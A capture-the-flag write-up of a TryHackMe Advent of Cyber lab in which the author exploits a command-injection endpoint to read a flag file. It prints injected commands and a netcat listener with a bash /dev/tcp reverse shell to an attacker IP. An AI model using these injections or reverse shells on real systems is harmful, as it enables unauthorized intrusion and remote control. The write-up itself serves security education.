TryHackMe: Advent of Cyber [Day 19] Commands

Room: Advent of Cyber

Difficulty: Beginner

“Another day, another hack from the Christmas Monster. Can you get back control of the system?

Access the web server on http://[your-ip]:3000/

McSkidy actually found something interesting on the /api/cmd endpoint.”

For this challenge you will have to deploy the VM from the question and then use either OpenVPN or the THM virtual Kali Machine (if you are a subscriber) to connect to it. If you need instructions for how to do that, click HERE.Question #1 What are the contents of the user.txt file?

After reading through the source material, we can see that today’s question will be about command injection attacks.

Let’s start by opening up our attacking machine and navigating to the web address provided:

http://<target ip>:3000

It says that McSkidy found something at the /api/cmd endpoint. Let’s head there:

Hmm, looks like it just returns an error message. That’s OK, we can still use this to input a basic command and see if that works.

I just passed thels command here, and look, it shows us details of the file system, which means that this endpoint is definitely vulnerable to command injection attacks.

I would also like to try whoami:

This returns the fact that we are root. Not good, McSkidy…

We will need to find a way to look through the file system and grab the “user.txt” file.

The command I am going to use is:

find -name “user.txt”

However, you need to encode it in a way that is URL friendly (they don’t handle spaces well). I like this simple tool HERE.

After you encode it, it will look like this:

This is what we will paste into the browser navigation bar:

Hit enter, andyou should see something like this:

So we found the path to the file. Now we just need to open it. Let’s encode another basic command:

cat home/bestadmin/user.txt

This will reveal our flag!

You could have also created a reverse shell here to control in your own terminal. If you prefer that or just want to know an alternative method, keep reading.

I found THIS tool to make it much simpler. Though they also gave you a link to another cheat sheet from Pentestmonkey in the source material.

First, set up a port to listen on:

nc -lvnp 4444

-l for listen, -v for verbose, -n means not to resolve hostnames via DNS , -p for the port we want.

Now, we generate our reverse shell.

bash -i >& /dev/tcp/<attacker ip>/4444 0>&1

We input that in the browser navigation bar like we were doing earlier. Remember to encode it!

If you head back to your terminal you will see that you now have control of a reverse shell:

You can enter in the same commands as last time to get the flag once again:

Happy Hacking! ❤CTF Writeups to facilitate cyber education.

Love podcasts or audiobooks? Learn on the go with our new app.

Recommended from Medium

InfoSecSherpa’s Weekly Africa InfoSec News Round Up for September 26, 2021

Dig Dug | TryHackMe

Identity Verification and Telecom are Working Together — Here is How and Why?

Simple Registry Operations for Malware Development, Part 2 — RegSetKeyValue

How To Travel On A Budget — Vannie Sloune Finance Blog

Cybersecurity in a Big Data World

Gratitude: Reflecting on 2021

On the testnet interface, you can experience insurance trade, liquidity mining, and redemption…

Get the Medium app

A button that says 'Download on the App Store', and if clicked it will lead you to the iOS App store
A button that says 'Get it on, Google Play', and if clicked it will lead you to the Google Play store


CTFWriteups to facilitate cyber education.

More from Medium

Learning SQL Injection in Oracle Databases

TryHackMe- Network Services 2 — Lab Walkthrough—SMTP

UltraTech Writeup

HackTheBox Pandora Write-Up